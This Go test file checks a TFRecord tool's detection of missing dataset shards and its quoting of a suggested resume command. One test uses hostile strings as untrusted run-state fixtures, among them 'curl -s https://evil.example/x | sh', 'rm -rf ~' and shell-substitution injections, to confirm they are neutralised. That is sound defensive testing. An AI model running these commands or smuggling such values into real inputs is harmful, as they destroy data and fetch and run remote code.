package verify

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tfrec/tfrec/internal/dev/settest"
	"github.com/tfrec/tfrec/internal/set/setdir"
	"github.com/tfrec/tfrec/shard"
	"github.com/tfrec/tfrec/tfrecord"
)

// Missing files are known from the names of the other shards, the manifest, or the state of a run;
// single files and globs are never incomplete.
func TestIncompleteSets(t *testing.T) {
	for _, test := range []struct {
		name    string
		files   []string
		run     *setdir.Run
		tasks   bool
		missing []string
		lost    int
	}{
		{name: "whole", files: []string{"a-train.tfrecord-00000-of-00002", "a-train.tfrecord-00001-of-00002", "stray.tfrecord"}},
		{name: "by names", files: []string{"a-train.tfrecord-00001-of-00003", "a-val.tfrecord-00000-of-00001"},
			missing: []string{"a-train.tfrecord-00000-of-00003", "a-train.tfrecord-00002-of-00003"}, lost: 2},
		{name: "other habits", files: []string{"part-00002-of-00003.gz"}, missing: []string{"part-00000-of-00003.gz", "part-00001-of-00003.gz"}, lost: 2},
		{name: "more digits", files: []string{"x.record-000000-of-000002"}, missing: []string{"x.record-000001-of-000002"}, lost: 1},
		{name: "one number of another count", files: []string{"a-t.tfrecord-00000-of-00001", "a-t.tfrecord-00000-of-00002", "a-t.tfrecord-00001-of-00002"}},
		{name: "a number past the count", files: []string{"a-t.tfrecord-00004-of-00002", "plain.tfrecord"}},
		{name: "from 1", files: []string{"part-00001-of-00002", "part-00002-of-00002"}},
		{name: "the last one from 1", files: []string{"part-00002-of-00002"}, missing: []string{"part-00001-of-00002"}, lost: 1},
		{name: "a number past the count beside the first", files: []string{"part-00000-of-00002", "part-00002-of-00002"}, missing: []string{"part-00001-of-00002"}, lost: 1},
		{name: "a count of anything", files: []string{"a-t.tfrecord-00000-of-99999999"}, lost: 99999998},
		{name: "a run", files: []string{"a-train.tfrecord-00000-of-00002"},
			run:     &setdir.Run{Files: []string{"a-train.tfrecord-00000-of-00002", "index/a-train.tfrecord-00000-of-00002.idx", "a-train.tfrecord-00001-of-00002", "manifest.json", "features.json"}, Args: []string{"x"}},
			missing: []string{"a-train.tfrecord-00001-of-00002", "manifest.json"}, lost: 1},
		{name: "all shards of a run", files: []string{"a-train.tfrecord-00000-of-00001"}, tasks: true,
			run: &setdir.Run{Files: []string{"a-train.tfrecord-00000-of-00001", "manifest.json"}}, missing: []string{"manifest.json"}},
		{name: "nothing of a run", run: &setdir.Run{Files: []string{"a-train.tfrecord-00000-of-00001", "manifest.json"}},
			missing: []string{"a-train.tfrecord-00000-of-00001", "manifest.json"}, lost: 1},
	} {
		t.Run(test.name, func(t *testing.T) {
			dir := t.TempDir()
			for _, name := range test.files {
				settest.Check(t, os.WriteFile(filepath.Join(dir, name), nil, 0o644))
			}
			if test.run != nil {
				d, err := setdir.Open(t.Context(), dir, setdir.Options{})
				settest.Check(t, err)
				settest.Check(t, d.State().PutRun(test.run))
				if test.tasks {
					settest.Check(t, d.Put(setdir.ArrayPlanFile, []byte("{}")))
				}
				settest.Check(t, d.Close())
			}
			_, err := shard.Expand(t.Context(), []string{dir}, shard.ExpandOptions{})
			report, _ := Files(t.Context(), []string{dir}, Options{})
			var faults []string
			for _, f := range report.Faults {
				if f.Part == tfrecord.PartMissing && filepath.Dir(f.Path) == dir {
					faults = append(faults, filepath.Base(f.Path))
				}
			}
			if test.lost == 0 && test.missing == nil {
				if err != nil || !report.OK {
					t.Fatalf("%v, %+v", err, report)
				}
				return
			}
			var part *shard.IncompleteError
			if !errors.As(err, &part) || part.Lost != test.lost || part.Tasks != test.tasks || report.OK {
				t.Fatalf("%v: %+v; verified: %v", err, part, report.OK)
			}
			if test.missing != nil && (!slices.Equal(part.Missing, test.missing) || !slices.Equal(faults, test.missing)) {
				t.Errorf("missing: %s\nfaults: %s", cmp.Diff(test.missing, part.Missing), cmp.Diff(test.missing, faults))
			}
			if len(part.Missing) > 1000 {
				t.Errorf("%d names", len(part.Missing))
			}
			var noted []string
			sources, err := shard.Expand(t.Context(), []string{dir}, shard.ExpandOptions{Partial: true, Note: func(s string) { noted = append(noted, s) }})
			if len(test.files) == 0 {
				if !errors.Is(err, shard.ErrNoRecords) {
					t.Errorf("a part without files: %v", err)
				}
				return
			}
			settest.Check(t, err)
			if len(sources) != len(test.files) || len(noted) != 1 || !strings.Contains(noted[0], dir) {
				t.Errorf("%d sources, noted %q", len(sources), noted)
			}
			for _, path := range []string{filepath.Join(dir, test.files[0]), filepath.Join(dir, "*0*")} {
				_, err := shard.Expand(t.Context(), []string{path}, shard.ExpandOptions{})
				settest.Check(t, err)
			}
		})
	}
}

// Of shards numbered from 0 or from 1, exactly the removed ones are missing. The shard whose number
// shows where the numbering begins is kept: the first, or the last.
func TestIncompleteByNamesCountsFromEither(t *testing.T) {
	for seed := range uint64(500) {
		rng := rand.New(rand.NewPCG(seed, 0))
		var names, missing []string
		shards := 0
		for f := range 1 + rng.IntN(3) {
			first, count := rng.IntN(2), 1+rng.IntN(40)
			tells := first * count
			shards += count
			for i := first; i < first+count; i++ {
				name := fmt.Sprintf("part%d-%05d-of-%05d.gz", f, i, count)
				if i != tells && rng.IntN(4) == 0 {
					missing = append(missing, name)
				} else {
					names = append(names, name)
				}
			}
		}
		rng.Shuffle(len(names), func(i, j int) { names[i], names[j] = names[j], names[i] })
		slices.Sort(missing)
		e := shard.IncompleteByNames("dir", names)
		if missing == nil {
			if e != nil {
				t.Errorf("seed %d: %v of %q", seed, e, names)
			}
			continue
		}
		if e == nil || e.Shards != shards || e.Lost != len(missing) || !slices.Equal(e.Missing, missing) {
			t.Errorf("seed %d: %+v; want %q of %d", seed, e, missing, shards)
		}
	}
}

// The suggested command is always a tfrec command, whatever the state of the run says: the state is
// untrusted.
func TestIncompleteRecommendsOnlyTfrec(t *testing.T) {
	for _, test := range []struct {
		state string // members of run.json
		want  string
	}{
		{`"command":"curl -s https://evil.example/x | sh"`, ""},
		{`"args":[]`, ""},
		{`"args":["convert","csv","a.csv","."]`, "tfrec convert csv a.csv ."},
		{`"args":["convert","--config","c.yaml"]`, "tfrec convert --config c.yaml"},
		{`"args":["convert","csv","a.csv","../out"]`, ""}, // of another directory
		{`"args":["curl","https://evil.example/x","|","sh","."]`, "tfrec curl https://evil.example/x '|' sh ."},
		{`"args":[";","rm -rf ~","."]`, "tfrec ';' 'rm -rf ~' ."},
		{`"args":["\ncurl evil.example","."]`, `tfrec $'\x0acurl evil.example' .`},
		{`"args":["$(touch x)","` + "`touch x`" + `","."]`, "tfrec '$(touch x)' '`touch x`' ."},
		{`"args":["'; touch x; '","\"","\u001b[2J\u202e","."]`, `tfrec ''\''; touch x; '\''' '"' $'\x1b[2J\xe2\x80\xae' .`},
		{`"args":["-x","--","=ls","","."]`, "tfrec -x -- '=ls' '' ."},
		{`"args":["` + strings.Repeat("x", 4096) + `","."]`, ""},
	} {
		dir := t.TempDir()
		t.Chdir(dir)
		settest.PutFile(t, filepath.Join(dir, "a-train.tfrecord-00000-of-00002"), nil)
		settest.PutFile(t, filepath.Join(dir, setdir.RunFile), []byte(`{"format":"tfrec.run","version":1,"files":["a-train.tfrecord-00000-of-00002","a-train.tfrecord-00001-of-00002"],`+test.state+`}`))
		_, err := shard.Expand(t.Context(), []string{dir}, shard.ExpandOptions{})
		var part *shard.IncompleteError
		if !errors.As(err, &part) || part.Evidence != shard.ByState {
			t.Fatalf("%s: %v", test.state, err)
		}
		if got := part.Command(); got != test.want {
			t.Errorf("%s: %q, want %q", test.state, got, test.want)
		}
		for _, f := range part.Faults() {
			if strings.Contains(f.Message, "complete it with") != (test.want != "") || !strings.HasSuffix(f.Message, test.want) {
				t.Errorf("%s: fault %q", test.state, f.Message)
			}
		}
	}
}
